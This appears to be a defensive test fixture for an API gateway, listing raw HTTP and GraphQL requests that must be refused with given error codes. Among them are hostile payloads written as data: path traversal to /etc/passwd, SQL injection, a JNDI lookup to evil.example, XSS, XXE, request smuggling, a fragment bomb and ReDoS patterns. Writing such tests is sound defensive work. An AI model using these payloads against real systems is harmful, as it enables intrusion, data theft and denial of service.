import { gzipSync } from 'node:zlib';
import { apiKey } from '../support/test-app.ts';

/** One request that must be refused, and how. */
export interface Hostile {
  readonly name: string;
  /** The bytes, as they go over the wire. */
  readonly bytes: string | Buffer;
  readonly status: number;
  readonly code: string;
}

/** A secret that only the requests hold: wherever they put it, it must not come back, nor stand in the log. */
export const planted = 'planted-s3cret-7d1f';

const key = `X-API-KEY: ${apiKey}`;
const stats = '/api/endpoints/query/functions.invocation-stats';
const logs = '/api/endpoints/query/logs.all';
const counts = '/api/endpoints/query/usage.api-counts';

/** A whole request; a header `null` leaves the usual one out. */
function http(first: string, headers: readonly string[] = [key], body: string | Buffer = ''): Buffer {
  const head = [`${first} HTTP/1.1`, 'Host: gateway.test', 'Connection: close', ...headers];
  if (body.length > 0) head.push(`Content-Length: ${Buffer.byteLength(body)}`);
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`, 'latin1'), Buffer.from(body)]);
}

type Row = readonly [name: string, bytes: string | Buffer, status: number, code: string];

const get = (path: string, ...headers: string[]) => http(`GET ${path}`, [key, ...headers]);
const pattern = (text: string) => http(`GET ${counts}?interval=daily&project=${encodeURIComponent(text)}`);

const json = 'Content-Type: application/json';
const strict = 'Accept: application/graphql-response+json';
const post = (body: string | Buffer, ...headers: string[]) =>
  http('POST /graphql', [key, ...(headers.length > 0 ? headers : [json, strict])], body);
const ask = (query: string, variables?: unknown) => post(JSON.stringify({ query, variables }));
/** As most clients ask: errors would be told with 200. */
const askPlain = (query: string) => post(JSON.stringify({ query }), json, 'Accept: application/json');

const fieldOf = (args: string) => `{ usageApiCounts(${args}) { rowCount } }`;
const nested = (depth: number) => `{ ${'endpoints { '.repeat(depth)}name${' }'.repeat(depth)} }`;
const ofType = (depth: number) =>
  `{ __schema { types { ${'ofType { '.repeat(depth)}name${' }'.repeat(depth)} } } }`;
const aliases = (count: number, field = '__typename') =>
  Array.from({ length: count }, (_, at) => `a${at}: ${field}`).join(' ');

/** Each level is the one before, twice: written out it is 2^levels. */
const bomb = (levels: number) =>
  [
    '{ ...F0 }',
    ...Array.from(
      { length: levels },
      (_, at) => `fragment F${at} on Query { a${at}: __typename ...F${at + 1} ...F${at + 1} }`,
    ),
    `fragment F${levels} on Query { last: __typename }`,
  ].join(' ');

const keys: readonly Row[] = [
  ['no key', http(`GET ${logs}?project=p`, []), 401, 'UNAUTHENTICATED'],
  ['an empty key', http(`GET ${logs}?project=p`, ['X-API-KEY: ']), 401, 'UNAUTHENTICATED'],
  ['a wrong key', http(`GET ${logs}?project=p`, [`X-API-KEY: ${planted}`]), 401, 'UNAUTHENTICATED'],
  ['the key and a letter', http(`GET ${logs}?project=p`, [`${key}x`]), 401, 'UNAUTHENTICATED'],
  [
    'the key without its last letter',
    http(`GET ${logs}?project=p`, [key.slice(0, -1)]),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'the key in capitals',
    http(`GET ${logs}?project=p`, [`X-API-KEY: ${apiKey.toUpperCase()}`]),
    401,
    'UNAUTHENTICATED',
  ],
  ['the key twice', http(`GET ${logs}?project=p`, [key, key]), 401, 'UNAUTHENTICATED'],
  [
    'a key of 8,000 characters',
    http(`GET ${logs}?project=p`, [`X-API-KEY: ${'k'.repeat(8_000)}`]),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'bytes that are no ASCII',
    http(`GET ${logs}?project=p`, ['X-API-KEY: \xff\xfe\x80']),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'the key as Basic',
    http(`GET ${logs}?project=p`, [`Authorization: Basic ${Buffer.from(`x:${apiKey}`).toString('base64')}`]),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'a bearer without a token',
    http(`GET ${logs}?project=p`, ['Authorization: Bearer']),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'a wrong bearer',
    http(`GET ${logs}?project=p`, [`Authorization: Bearer ${planted}`]),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'the key in a cookie',
    http(`GET ${logs}?project=p`, [`Cookie: X-API-KEY=${apiKey}`]),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'an endpoint that is none, without a key',
    http('GET /api/endpoints/query/nope', []),
    401,
    'UNAUTHENTICATED',
  ],
  ['a secret in place of an endpoint', http(`GET /api/endpoints/query/${planted}`), 404, 'UNKNOWN_QUERY'],
  ['a secret in a path that leads nowhere', http(`GET /${planted}`), 404, 'NOT_FOUND'],
  ['a secret in a header nobody reads', http('GET /nowhere', [`X-Token: ${planted}`]), 404, 'NOT_FOUND'],
  [
    'GraphQL by POST without a key',
    http('POST /graphql', [json], '{"query":"{ __typename }"}'),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'GraphQL by GET without a key, as another site would',
    http('GET /graphql?query={__typename}', ['Origin: https://evil.example']),
    401,
    'UNAUTHENTICATED',
  ],
  [
    'introspection without a key',
    http('POST /graphql', [json], '{"query":"{ __schema { types { name } } }"}'),
    401,
    'UNAUTHENTICATED',
  ],
  ['a key in the query string of health', http('GET /healthz?api_key=x', []), 400, 'BAD_REQUEST'],
  ['a key in the query string of nothing', http('GET /?api_key=x', []), 400, 'BAD_REQUEST'],
  ['a key in the query string of a preflight', http(`OPTIONS ${logs}?api_key=x`, []), 400, 'BAD_REQUEST'],
  ['the key as a bearer in a query string', get(`${logs}?project=Bearer+${apiKey}`), 400, 'BAD_REQUEST'],
  ['the key as a word in a query string', get(`${logs}?project=p%3B${apiKey}`), 400, 'BAD_REQUEST'],
  [
    'a large body without a key',
    http('POST /graphql', [json], `{"query":"${'x'.repeat(200_000)}"}`),
    401,
    'UNAUTHENTICATED',
  ],
];

const methods: readonly Row[] = [
  ...['POST', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND', 'PURGE', 'MKCOL', 'LOCK'].map(
    (method): Row => [
      `${method} of an endpoint`,
      http(`${method} ${logs}?project=p`),
      405,
      'METHOD_NOT_ALLOWED',
    ],
  ),
  ['PUT with a body', http(`PUT ${logs}?project=p`, [key], 'x'.repeat(10_000)), 405, 'METHOD_NOT_ALLOWED'],
  ...['PUT', 'PATCH', 'DELETE', 'TRACE'].map(
    (method): Row => [`${method} of GraphQL`, http(`${method} /graphql`), 405, 'METHOD_NOT_ALLOWED'],
  ),
  ['CONNECT', http('CONNECT gateway.test:443'), 405, 'METHOD_NOT_ALLOWED'],
  ['POST of readiness', http('POST /readyz', [], 'x'), 405, 'METHOD_NOT_ALLOWED'],
  ['DELETE of health', http('DELETE /healthz', []), 405, 'METHOD_NOT_ALLOWED'],
  ['OPTIONS of nothing', http('OPTIONS /nowhere', []), 404, 'NOT_FOUND'],
  ['OPTIONS of all', http('OPTIONS *', []), 400, 'BAD_REQUEST'],
  ['a method that is none', http(`HACK ${logs}?project=p`), 400, 'BAD_REQUEST'],
  ['a method in small letters', http(`get ${logs}?project=p`), 400, 'BAD_REQUEST'],
];

const paths: readonly Row[] = [
  ['two slashes', get(`/${logs}?project=p`), 404, 'NOT_FOUND'],
  ['a slash too much', get(`${logs}/?project=p`), 404, 'NOT_FOUND'],
  [
    'a slash within the name, escaped',
    get('/api/endpoints/query/logs%2Fall?project=p'),
    404,
    'UNKNOWN_QUERY',
  ],
  ['dots that leave', get('/api/endpoints/query/../../../etc/passwd'), 404, 'NOT_FOUND'],
  [
    'dots that leave, escaped',
    get('/api/endpoints/query/%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
    404,
    'UNKNOWN_QUERY',
  ],
  ['backslashes', get('/api/endpoints/query/..\\..\\secret'), 404, 'NOT_FOUND'],
  ['a NUL in a name', get('/api/endpoints/query/logs.all%00?project=p'), 404, 'UNKNOWN_QUERY'],
  [
    'a line break in a name',
    get('/api/endpoints/query/logs.all%0d%0aSet-Cookie:%20a=b'),
    404,
    'UNKNOWN_QUERY',
  ],
  ['a name that is ill-formed', get('/api/endpoints/query/%FF%FE'), 404, 'UNKNOWN_QUERY'],
  ['half an escape in a name', get('/api/endpoints/query/logs.all%'), 404, 'UNKNOWN_QUERY'],
  ['a name in capitals', get('/api/endpoints/query/LOGS.ALL?project=p'), 404, 'UNKNOWN_QUERY'],
  ['a name and its file', get('/api/endpoints/query/logs.all.sql?project=p'), 404, 'UNKNOWN_QUERY'],
  ['__proto__', get('/api/endpoints/query/__proto__'), 404, 'UNKNOWN_QUERY'],
  ['constructor', get('/api/endpoints/query/constructor'), 404, 'UNKNOWN_QUERY'],
  ['SQL as a name', get("/api/endpoints/query/x'%20or%201=1--"), 404, 'UNKNOWN_QUERY'],
  [
    'a template as a name',
    get('/api/endpoints/query/$%7Bjndi:ldap:%2F%2Fevil.example%7D'),
    404,
    'UNKNOWN_QUERY',
  ],
  ['markup as a path', get('/<script>alert(1)</script>'), 404, 'NOT_FOUND'],
  [
    'a UUID that nobody has',
    get('/api/endpoints/query/00000000-0000-4000-8000-000000000000'),
    404,
    'UNKNOWN_QUERY',
  ],
  ['GraphQL in capitals', get('/GraphQL?query={__typename}'), 404, 'NOT_FOUND'],
  ['GraphQL and a slash', get('/graphql/?query={__typename}'), 404, 'NOT_FOUND'],
  ['an environment file', get('/.env'), 404, 'NOT_FOUND'],
  ['a repository', get('/.git/config'), 404, 'NOT_FOUND'],
  ['the whole URL of another host', get('http://evil.example/nowhere'), 404, 'NOT_FOUND'],
  ['another scheme', get('file:///etc/passwd'), 404, 'NOT_FOUND'],
  ['a target that is none', get('http://[::1/'), 400, 'BAD_REQUEST'],
  ['a URL of 9,000 characters', get(`${logs}?project=${'p'.repeat(9_000)}`), 414, 'URL_TOO_LONG'],
  ['a URL of 20,000 characters', get(`${logs}?project=${'p'.repeat(20_000)}`), 414, 'URL_TOO_LONG'],
  [
    'an operation of 9,000 characters by GET',
    get(`/graphql?query={${'a'.repeat(9_000)}}`),
    414,
    'URL_TOO_LONG',
  ],
];

const line = `GET ${logs}?project=p HTTP/1.1\r\n`;
const bytes: readonly Row[] = [
  ['no HTTP at all', `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03${planted}\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['another protocol', 'SSH-2.0-OpenSSH_9.6\r\n', 400, 'BAD_REQUEST'],
  ['HTTP/2 without asking', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400, 'BAD_REQUEST'],
  ['HTTP/3.0', `GET ${logs} HTTP/3.0\r\nHost: a\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['no version', `GET ${logs}\r\n\r\n`, 401, 'UNAUTHENTICATED'],
  ['no host', `${line}${key}\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['an empty host', `${line}Host:\r\n${key}\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a host with a space', `${line}Host: a b\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a host with a path', `${line}Host: a/graphql?\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a host with a user', `${line}Host: a@b\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a host whose port is none', `${line}Host: a:99999\r\nConnection: close\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a header without a name', `${line}Host: a\r\n: x\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a header with a space before its colon', `${line}Host: a\r\nX-API-KEY : x\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a folded header', `${line}Host: a\r\nX: a\r\n b\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a NUL in a header', `${line}Host: a\r\nX: a\0b\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['a bare line feed', `GET ${logs} HTTP/1.1\nHost: a\n\n`, 400, 'BAD_REQUEST'],
  ['a bare carriage return', `${line}Host: a\rX: b\r\n\r\n`, 400, 'BAD_REQUEST'],
  ['headers of 20 KB', `${line}Host: a\r\nX: ${'x'.repeat(20_000)}\r\n\r\n`, 431, 'HEADERS_TOO_LARGE'],
  ['3,000 headers', `${line}Host: a\r\n${'X: y\r\n'.repeat(3_000)}\r\n`, 431, 'HEADERS_TOO_LARGE'],
  [
    'a length and chunks',
    http('POST /graphql', [key, json, 'Transfer-Encoding: chunked', 'Content-Length: 5'], ''),
    400,
    'BAD_REQUEST',
  ],
  [
    'two lengths',
    http('POST /graphql', [key, json, 'Content-Length: 5', 'Content-Length: 6'], ''),
    400,
    'BAD_REQUEST',
  ],
  [
    'a length that is none',
    http('POST /graphql', [key, json, 'Content-Length: five'], ''),
    400,
    'BAD_REQUEST',
  ],
  ['a negative length', http('POST /graphql', [key, json, 'Content-Length: -1'], ''), 400, 'BAD_REQUEST'],
  [
    'a length beyond all numbers',
    http('POST /graphql', [key, json, 'Content-Length: 99999999999999999999'], ''),
    400,
    'BAD_REQUEST',
  ],
  [
    'a coding that is hidden',
    http('POST /graphql', [key, json, 'Transfer-Encoding: xchunked'], ''),
    400,
    'BAD_REQUEST',
  ],
  [
    'chunks in another coding',
    http('POST /graphql', [key, json, 'Transfer-Encoding: chunked, identity'], ''),
    400,
    'BAD_REQUEST',
  ],
  [
    'a chunk whose size is none',
    Buffer.concat([http('POST /graphql', [key, json, 'Transfer-Encoding: chunked']), Buffer.from('zz\r\n')]),
    400,
    'BAD_REQUEST',
  ],
  [
    'an upgrade to WebSocket, nowhere',
    get('/subscriptions', 'Connection: Upgrade', 'Upgrade: websocket'),
    404,
    'NOT_FOUND',
  ],
  [
    'an upgrade to HTTP/2, nowhere',
    get('/', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAA'),
    404,
    'NOT_FOUND',
  ],
  ['an expectation that nobody knows', get('/nowhere', 'Expect: a-miracle'), 404, 'NOT_FOUND'],
];

const parameters: readonly Row[] = [
  ['a project twice', get(`${logs}?project=p&project=q`), 400, 'INVALID_PARAMETER'],
  ['a project a hundred times', get(`${logs}?${'project=p&'.repeat(99)}`), 400, 'INVALID_PARAMETER'],
  ['no project', get(logs), 400, 'MISSING_PARAMETER'],
  ['an empty project', get(`${logs}?project=`), 400, 'MISSING_PARAMETER'],
  ['a project as an array', get(`${logs}?project[]=p`), 400, 'MISSING_PARAMETER'],
  ['a project as an object', get(`${logs}?project[$ne]=p`), 400, 'MISSING_PARAMETER'],
  ['a project in capitals', get(`${logs}?PROJECT=p`), 400, 'MISSING_PARAMETER'],
  ['a project after a semicolon', get(`${logs}?a=b;project=p`), 400, 'MISSING_PARAMETER'],
  ['a NUL', get(`${logs}?project=a%00b`), 400, 'INVALID_PARAMETER'],
  ['a NUL alone', get(`${logs}?project=%00`), 400, 'INVALID_PARAMETER'],
  ['ill-formed UTF-8', get(`${logs}?project=%C3%28`), 400, 'INVALID_PARAMETER'],
  ['overlong UTF-8', get(`${logs}?project=%C0%AF`), 400, 'INVALID_PARAMETER'],
  ['an encoded surrogate', get(`${logs}?project=%ED%A0%80`), 400, 'INVALID_PARAMETER'],
  ['beyond Unicode', get(`${logs}?project=%F4%90%80%80`), 400, 'INVALID_PARAMETER'],
  ['half an escape', get(`${logs}?project=%4`), 400, 'INVALID_PARAMETER'],
  ['an escape of IIS', get(`${logs}?project=%u0070`), 400, 'INVALID_PARAMETER'],
  ['bytes that should be escaped', get(`${logs}?project=\xff\xfe`), 400, 'BAD_REQUEST'],
  ['a value of 5,000 characters', get(`${logs}?project=${'p'.repeat(5_000)}`), 400, 'INVALID_PARAMETER'],
  [
    '101 parameters',
    get(`${logs}?project=p${Array.from({ length: 101 }, (_, at) => `&a${at}=1`).join('')}`),
    400,
    'BAD_REQUEST',
  ],
  ['2,000 empty parameters', get(`${logs}?project=p${'&'.repeat(2_000)}`), 400, 'BAD_REQUEST'],
  ['an interval that is none', get(`${counts}?project=p&interval=yearly`), 400, 'INVALID_PARAMETER'],
  ['an interval of the prototype', get(`${counts}?project=p&interval=__proto__`), 400, 'INVALID_PARAMETER'],
  [
    'an interval of 4,000 characters',
    get(`${counts}?project=p&interval=${'x'.repeat(4_000)}`),
    400,
    'INVALID_PARAMETER',
  ],
  [
    'SQL as an interval',
    get(`${counts}?project=p&interval=daily'%20union%20select%20*%20from%20auth_logs--`),
    400,
    'INVALID_PARAMETER',
  ],
  ['a time in words', get(`${logs}?project=p&iso_timestamp_start=now`), 400, 'INVALID_PARAMETER'],
  ['SQL as a time', get(`${logs}?project=p&iso_timestamp_start=2026-01-01'--`), 400, 'INVALID_PARAMETER'],
  [
    'a time of 4,000 digits',
    get(`${logs}?project=p&iso_timestamp_start=${'2'.repeat(4_000)}`),
    400,
    'INVALID_PARAMETER',
  ],
  [
    'the year 999999',
    get(`${logs}?project=p&iso_timestamp_start=999999-01-01T00:00:00Z`),
    400,
    'INVALID_PARAMETER',
  ],
  ['no such day', get(`${logs}?project=p&iso_timestamp_end=2026-02-30`), 400, 'INVALID_PARAMETER'],
  [
    'a time in other digits',
    get(`${logs}?project=p&iso_timestamp_end=%D9%A2%D9%A0%D9%A2%D9%A6-01-01`),
    400,
    'INVALID_PARAMETER',
  ],
  ['a time with a NUL', get(`${logs}?project=p&iso_timestamp_end=2026-01-01%00`), 400, 'INVALID_PARAMETER'],
  ['a required parameter, of another query', get(`${stats}?interval=1day`), 400, 'MISSING_PARAMETER'],
  ['a pattern that nobody closes', pattern('('), 400, 'INVALID_PARAMETER'],
  ['a class that nobody closes', pattern('[a'), 400, 'INVALID_PARAMETER'],
  ['a pattern that looks ahead', pattern('(?=a)'), 400, 'INVALID_PARAMETER'],
  ['a pattern that looks behind', pattern('(?<!a)b'), 400, 'INVALID_PARAMETER'],
  ['a pattern that refers back', pattern('(a)\\1'), 400, 'INVALID_PARAMETER'],
  ['a pattern that calls itself', pattern('(?R)'), 400, 'INVALID_PARAMETER'],
  ['a possessive pattern', pattern('a++b'), 400, 'INVALID_PARAMETER'],
  ['an atomic group', pattern('(?>a+)b'), 400, 'INVALID_PARAMETER'],
  ['a pattern of 1,025 characters', pattern('a'.repeat(1_025)), 400, 'INVALID_PARAMETER'],
  ['a pattern of 1,024 brackets', pattern('('.repeat(1_024)), 400, 'INVALID_PARAMETER'],
  ['1,024 classes that nobody closes', pattern('['.repeat(1_024)), 400, 'INVALID_PARAMETER'],
  ['counts within counts', pattern('((a{1,100}){1,100}){1,100}'), 400, 'INVALID_PARAMETER'],
  [
    'counts within counts within counts',
    pattern('((((((a{10}){10}){10}){10}){10}){10})'),
    400,
    'INVALID_PARAMETER',
  ],
  ['counts beside counts', pattern('a{1000}'.repeat(140)), 400, 'INVALID_PARAMETER'],
  ['a long group, counted', pattern(`(${'a'.repeat(900)}){1000}`), 400, 'INVALID_PARAMETER'],
  ['a class, counted', pattern('(\\pL\\pN){1000}\\pM{900}'), 400, 'INVALID_PARAMETER'],
  ['a count beyond all numbers', pattern('a{99999999999}'), 400, 'INVALID_PARAMETER'],
  ['a count backwards', pattern('a{5,2}'), 400, 'INVALID_PARAMETER'],
  ['a property that is none', pattern('\\p{Nope}'), 400, 'INVALID_PARAMETER'],
  ['a NUL in a pattern', pattern('a\0b'), 400, 'INVALID_PARAMETER'],
  ['an escape that ends', pattern('abc\\'), 400, 'INVALID_PARAMETER'],
  ['a range backwards', pattern('[z-a]'), 400, 'INVALID_PARAMETER'],
];

const documents: readonly Row[] = [
  ['2,001 tokens', ask(`{ ${'name '.repeat(2_001)} }`), 400, 'OPERATION_TOO_LARGE'],
  ['2,001 tokens, as most ask', askPlain(`{ ${'name '.repeat(2_001)} }`), 400, 'OPERATION_TOO_LARGE'],
  ['100,000 brackets', ask('{'.repeat(100_000)), 400, 'OPERATION_TOO_LARGE'],
  ['brackets that nobody opened', ask('}'.repeat(1_000)), 400, 'GRAPHQL_PARSE_FAILED'],
  [
    '20,000 lists within each other',
    ask(fieldOf(`project: ${'['.repeat(20_000)}`)),
    400,
    'OPERATION_TOO_LARGE',
  ],
  ['16 levels', ask(nested(15)), 400, 'OPERATION_TOO_LARGE'],
  ['16 levels, as most ask', askPlain(nested(15)), 400, 'OPERATION_TOO_LARGE'],
  ['500 levels', ask(nested(500)), 400, 'OPERATION_TOO_LARGE'],
  [
    'levels by fragments',
    ask(
      `{ endpoints { ...A } } fragment A on Endpoint ${nested(8).replace('{ endpoints', '{ parameters')} fragment B on Endpoint ${nested(15)}`,
    ),
    400,
    'OPERATION_TOO_LARGE',
  ],
  [
    'levels by inline fragments',
    ask(nested(15).replaceAll('{ endpoints', '{ ... { endpoints').replaceAll(' }', ' } }')),
    400,
    'GRAPHQL_PARSE_FAILED',
  ],
  ['21 root fields', ask(`{ ${'__typename '.repeat(21)} }`), 400, 'OPERATION_TOO_LARGE'],
  ['21 root fields, as most ask', askPlain(`{ ${'__typename '.repeat(21)} }`), 400, 'OPERATION_TOO_LARGE'],
  [
    '21 root fields by a fragment',
    ask(`{ ...A ...A ...A } fragment A on Query { ${aliases(7)} }`),
    400,
    'OPERATION_TOO_LARGE',
  ],
  [
    '100 expensive root fields',
    ask(`{ ${aliases(100, 'logsAll(project: "p") { rowCount }')} }`),
    400,
    'OPERATION_TOO_LARGE',
  ],
  ['51 aliases', ask(`{ endpoints { ${aliases(51, 'name')} } }`), 400, 'OPERATION_TOO_LARGE'],
  [
    '51 aliases, as most ask',
    askPlain(`{ endpoints { ${aliases(51, 'name')} } }`),
    400,
    'OPERATION_TOO_LARGE',
  ],
  [
    'aliases by fragments',
    ask(
      `{ x: endpoints { ...A } y: endpoints { ...A } z: endpoints { ...A } } fragment A on Endpoint { ${aliases(17, 'name')} }`,
    ),
    400,
    'OPERATION_TOO_LARGE',
  ],
  ['a fragment bomb of 2^60', ask(bomb(60)), 400, 'OPERATION_TOO_LARGE'],
  ['a fragment bomb of 2^60, as most ask', askPlain(bomb(60)), 400, 'OPERATION_TOO_LARGE'],
  [
    'a fragment that spreads itself',
    ask('{ ...A } fragment A on Query { __typename ...A }'),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'fragments in a circle',
    ask('{ ...A } fragment A on Query { ...B } fragment B on Query { ...C } fragment C on Query { ...A }'),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  ['a fragment that nobody has', ask('{ ...A }'), 400, 'GRAPHQL_VALIDATION_FAILED'],
  [
    'a fragment that nobody uses',
    ask('{ __typename } fragment A on Query { __typename }'),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'lists of the schema within each other',
    ask('{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }'),
    400,
    'OPERATION_TOO_LARGE',
  ],
  [
    'the same, as most ask',
    askPlain('{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }'),
    400,
    'OPERATION_TOO_LARGE',
  ],
  ['types of types of types', ask(ofType(20)), 400, 'OPERATION_TOO_LARGE'],
  ['a mutation', ask('mutation { drop }'), 400, 'BAD_REQUEST'],
  ['a mutation, as most ask', askPlain('mutation { drop }'), 400, 'BAD_REQUEST'],
  ['a mutation by GET', get('/graphql?query=mutation{drop}'), 400, 'BAD_REQUEST'],
  ['a mutation behind a query', ask('query A { __typename } mutation B { drop }'), 400, 'BAD_REQUEST'],
  ['a subscription', ask('subscription { all }'), 400, 'BAD_REQUEST'],
  ['a type definition', ask('type Query { a: Int }'), 400, 'OPERATION_RESOLUTION_FAILURE'],
  ['@defer', ask('{ ... @defer { endpoints { name } } }'), 400, 'GRAPHQL_VALIDATION_FAILED'],
  ['@stream', ask('{ endpoints @stream(initialCount: 0) { name } }'), 400, 'GRAPHQL_VALIDATION_FAILED'],
  [
    '@skip a hundred times',
    ask(`{ __typename ${'@skip(if: false) '.repeat(100)} }`),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  ['an unknown directive', ask('{ __typename @sql(text: "drop") }'), 400, 'GRAPHQL_VALIDATION_FAILED'],
  [
    'a field that is almost right',
    ask('{ logsAl(project: "p") { rowCount } }'),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'an argument that is almost right',
    ask('{ logsAll(projec: "p") { rowCount } }'),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'an enum value that is almost right',
    ask(fieldOf('project: "p", interval: DAYLY')),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'an enum value as a string',
    ask(fieldOf('project: "p", interval: "daily"')),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    '1,900 fields that are none',
    ask(`{ endpoints { ${Array.from({ length: 1_900 }, (_, at) => `f${at}`).join(' ')} } }`),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'fields that conflict',
    ask(`{ endpoints { ${'name: id name '.repeat(25)} } }`),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  ['an empty document', ask(' '), 400, 'GRAPHQL_PARSE_FAILED'],
  ['a comment of 200 KB', ask(`#${'x'.repeat(200_000)}`), 400, 'GRAPHQL_PARSE_FAILED'],
  ['a NUL in a document', ask('{ __typename \0 }'), 400, 'GRAPHQL_PARSE_FAILED'],
  [
    'half a surrogate pair in a document',
    post('{"query":"{ endpoint(name: \\"\\ud800\\") { id } \\ud800 }"}'),
    400,
    'GRAPHQL_PARSE_FAILED',
  ],
  ['a string that nobody ends', ask('{ endpoint(name: "abc'), 400, 'GRAPHQL_PARSE_FAILED'],
  [
    'a number beyond all',
    ask(`{ endpoint(name: ${'9'.repeat(100_000)}) { id } }`),
    400,
    'GRAPHQL_VALIDATION_FAILED',
  ],
  [
    'an operation that is not there',
    post('{"query":"query A { __typename }","operationName":"B"}'),
    400,
    'OPERATION_RESOLUTION_FAILURE',
  ],
  [
    'two operations and no name',
    ask('query A { __typename } query B { __typename }'),
    400,
    'OPERATION_RESOLUTION_FAILURE',
  ],
];

const bodies: readonly Row[] = [
  ['a batch', post('[{"query":"{ __typename }"},{"query":"{ __typename }"}]'), 400, 'BAD_REQUEST'],
  ['an empty batch', post('[]'), 400, 'BAD_REQUEST'],
  ['a batch of 10,000', post(`[${'{"query":"{__typename}"},'.repeat(9_999)}{}]`), 400, 'BAD_REQUEST'],
  ['half a body', post(`{"query": "{ ${planted}`), 400, 'BAD_REQUEST'],
  ['a body of null', post('null'), 400, 'BAD_REQUEST'],
  ['a body of text', post('"{ __typename }"'), 400, 'BAD_REQUEST'],
  ['a body of a number', post('1e999'), 400, 'BAD_REQUEST'],
  ['no body', post(''), 400, 'BAD_REQUEST'],
  ['no query', post('{}'), 400, 'BAD_REQUEST'],
  ['a query that is a number', post('{"query":1}'), 400, 'BAD_REQUEST'],
  ['a query that is an object', post('{"query":{"a":1}}'), 400, 'BAD_REQUEST'],
  ['variables that are text', post('{"query":"{ __typename }","variables":"x"}'), 400, 'BAD_REQUEST'],
  ['variables that are a list', post('{"query":"{ __typename }","variables":[]}'), 400, 'BAD_REQUEST'],
  ['a parameter that is none', post('{"query":"{ __typename }","admin":true}'), 400, 'BAD_REQUEST'],
  ['the prototype', post('{"query":"{ __typename }","__proto__":{"admin":true}}'), 400, 'BAD_REQUEST'],
  ['100,000 lists within each other', post('['.repeat(100_000)), 400, 'BAD_REQUEST'],
  [
    'a body of 300 KB',
    post(JSON.stringify({ query: '{ __typename }', variables: { a: 'x'.repeat(300_000) } })),
    413,
    'BODY_TOO_LARGE',
  ],
  [
    'a body of 300 KB in chunks',
    Buffer.concat([
      http('POST /graphql', [key, json, 'Transfer-Encoding: chunked']),
      Buffer.from(`493e0\r\n${'x'.repeat(300_000)}\r\n0\r\n\r\n`),
    ]),
    413,
    'BODY_TOO_LARGE',
  ],
  [
    'ill-formed UTF-8 in a body',
    post(Buffer.from('{"query":"{ __typename \xff }"}', 'latin1')),
    400,
    'BAD_REQUEST',
  ],
  ['UTF-16', post(Buffer.from('{"query":"{ __typename }"}', 'utf16le')), 400, 'BAD_REQUEST'],
  [
    'a charset of its own',
    post('{"query":"{ __typename }"}', 'Content-Type: application/json; charset=utf-7'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'a form',
    post('query={__typename}', 'Content-Type: application/x-www-form-urlencoded'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'a form of parts',
    post('--x\r\n\r\n{}\r\n--x--', 'Content-Type: multipart/form-data; boundary=x'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'plain text',
    post('{"query":"{ __typename }"}', 'Content-Type: text/plain'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'plain text that says JSON',
    post('{"query":"{ __typename }"}', 'Content-Type: text/plain; application/json'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'XML',
    post('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 'Content-Type: application/xml'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'a body that is coded',
    post(gzipSync('{"query":"{ __typename }"}'), json, 'Content-Encoding: gzip'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  [
    'a body that says it is coded, twice',
    post('{"query":"{ __typename }"}', json, 'Content-Encoding: identity, br'),
    415,
    'UNSUPPORTED_MEDIA_TYPE',
  ],
  ['no type', post('{"query":"{ __typename }"}', 'X: y'), 415, 'UNSUPPORTED_MEDIA_TYPE'],
  ['events', post('{"query":"{ __typename }"}', json, 'Accept: text/event-stream'), 406, 'NOT_ACCEPTABLE'],
  ['parts', post('{"query":"{ __typename }"}', json, 'Accept: multipart/mixed'), 406, 'NOT_ACCEPTABLE'],
  ['a picture', post('{"query":"{ __typename }"}', json, 'Accept: image/png'), 406, 'NOT_ACCEPTABLE'],
  [
    'variables by GET that are no JSON',
    get(`/graphql?query={__typename}&variables={"a":"${planted}`),
    400,
    'BAD_REQUEST',
  ],
